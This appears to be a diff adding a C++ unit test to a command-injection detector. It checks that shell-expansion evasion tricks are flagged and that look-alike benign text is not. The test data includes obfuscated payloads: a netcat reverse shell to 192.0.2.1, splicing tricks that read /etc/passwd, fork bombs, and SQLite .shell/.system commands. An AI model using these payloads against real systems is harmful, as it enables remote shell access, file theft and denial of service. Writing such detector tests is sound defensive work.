@@ -1,0 +1,50 @@
+// Command injection hidden by shell expansion: variables assigned in the value and expanded
+// later, special parameters spliced into words, empty process substitutions, ANSI-C quoting,
+// fork bombs and SQLite shell dot-commands; and benign text with the same characters.
+#include <gtest/gtest.h>
+
+#include "libs/detect/test_util.h"
+
+namespace shieldx::detect {
+namespace {
+
+using testing::Flagged;
+using testing::HasCategory;
+using testing::InspectQueryValue;
+
+class ShellExpansionEvasion : public ::testing::TestWithParam<const char*> {};
+TEST_P(ShellExpansionEvasion, IsBlockedAsCommandInjection) {
+  Verdict v = InspectQueryValue(GetParam());
+  EXPECT_TRUE(Flagged(v)) << GetParam() << " -> " << v.explanation;
+  EXPECT_TRUE(HasCategory(v, Category::kCmdi)) << GetParam() << " -> " << v.explanation;
+}
+INSTANTIATE_TEST_SUITE_P(
+    Payloads, ShellExpansionEvasion,
+    ::testing::Values(
+        // Assigned, then expanded.
+        "a=/etc&&b=/passwd&&c=cat&&$c $a$b", "x=nc;$x -e /bin/sh 192.0.2.1 4444",
+        "p1=who;p2=ami;${p1}${p2}", "s=\\ ;c=id;$c$s",
+        // Special parameters spliced into words, empty process substitutions, $'...'.
+        "x;c$?at /et$!c/pas$$swd", "una$_me -a|x", "pi>()ng 127.0.0.1", "{,$'whoami',}",
+        // Fork bombs under any name.
+        ":(){ :|:& };:", "f(){ f & f; };f", "bomb() { bomb | bomb & }; bomb",
+        // SQLite shell dot-commands after a separator.
+        "1;.shell whoami", "x;.system id"));
+
+class ExpansionLikeBenign : public ::testing::TestWithParam<const char*> {};
+TEST_P(ExpansionLikeBenign, IsAllowed) {
+  Verdict v = InspectQueryValue(GetParam());
+  EXPECT_FALSE(Flagged(v)) << GetParam() << " -> " << v.explanation;
+}
+INSTANTIATE_TEST_SUITE_P(Text, ExpansionLikeBenign,
+                         ::testing::Values(
+                             // Templates and code with assignments and variables.
+                             "price=5; total=$price", "name=Ana; greeting=Hello $name",
+                             "a=1&b=2&c=$a",
+                             // Money and questions, JS functions, file names with dots.
+                             "costs $5?! really", "US$_20 bill", "render() { return a | b; }",
+                             "function f() { f(); }", "see file .shell_history? no",
+                             "x;.sh is a file extension", "Привет $друг; как дела?"));
+
+}  // namespace
+}  // namespace shieldx::detect
